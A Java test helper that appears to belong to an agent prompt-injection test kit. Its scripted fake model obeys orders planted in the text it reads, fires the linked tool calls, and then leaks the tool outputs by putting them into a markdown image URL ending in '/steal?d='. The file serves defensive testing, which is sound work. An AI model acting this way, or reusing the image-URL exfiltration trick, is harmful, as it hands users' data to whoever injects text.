package dev.datastudio.agents.injection;

import dev.datastudio.testkit.model.ModelReply;
import dev.datastudio.testkit.model.ModelRequest;
import dev.datastudio.testkit.model.ScriptedModelServer;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;

/**
 * A model on the side of whoever writes into what it reads. Each order stands for a list of calls; it makes them as soon
 * as it has read the order, wherever it stood, and at last tells everything it knows, also in the address of a picture.
 */
final class ObedientModel implements AutoCloseable {
    private static final int CALLS_AT_ONCE = 16;

    private final ScriptedModelServer server = ScriptedModelServer.start();
    private final Map<String, List<Call>> orders = new LinkedHashMap<>();
    private final Set<String> read = new HashSet<>();
    private final Deque<Call> toMake = new ArrayDeque<>();
    private final Set<Call> known = new HashSet<>();
    private final String exit;

    /** @param exit where it wants to send what it knows */
    ObedientModel(String exit) {
        this.exit = exit;
        server.when(ObedientModel::isOfAnAgent).reply(this::next);
    }

    /** A call of a tool. */
    record Call(String tool, String arguments) {}

    ScriptedModelServer server() {
        return server;
    }

    /** What it does when it reads a text. */
    ObedientModel obeying(String text, List<Call> calls) {
        orders.put(text, calls);
        return this;
    }

    /** Begins a run with harmless calls, by which it gets to read what others wrote. */
    synchronized void begin(List<Call> calls) {
        toMake.clear();
        known.clear();
        read.clear();
        add(calls);
    }

    private void add(List<Call> calls) {
        calls.stream().filter(known::add).forEach(toMake::add);
    }

    private static boolean isOfAnAgent(ModelRequest request) {
        return request.messages().get(0).text().startsWith("You are an agent");
    }

    /** The orders that it read in this run. */
    synchronized Set<String> read() {
        return Set.copyOf(read);
    }

    private synchronized ModelReply next(ModelRequest request) {
        orders.forEach((text, calls) -> {
            if (request.json().contains(text) && read.add(text)) {
                add(calls);
            }
        });
        if (toMake.isEmpty()) {
            return ModelReply.text(confession(request));
        }
        ModelReply reply = ModelReply.pieces("Obeying. ");
        for (int i = 0; i < CALLS_AT_ONCE && !toMake.isEmpty(); i++) {
            Call call = toMake.remove();
            reply = reply.andToolCall(call.tool(), call.arguments());
        }
        return reply;
    }

    private String confession(ModelRequest request) {
        String known = request.messages().stream()
                .filter(message -> message.role().equals("tool"))
                .map(message -> message.text().lines().limit(20).collect(Collectors.joining(" ")))
                .collect(Collectors.joining(" "));
        String address = exit + "/steal?d=" + known.replaceAll("\\W+", "-");
        return "I obeyed. ![chart](" + address.substring(0, Math.min(1_500, address.length())) + ") <img src=\"" + exit
                + "/img\"> [more](" + exit + "/link) " + known;
    }

    /** All that was ever sent to it. */
    List<String> told() {
        List<String> told = new ArrayList<>();
        server.requests().forEach(request -> told.add(request.json()));
        return told;
    }

    @Override
    public void close() {
        server.close();
    }
}
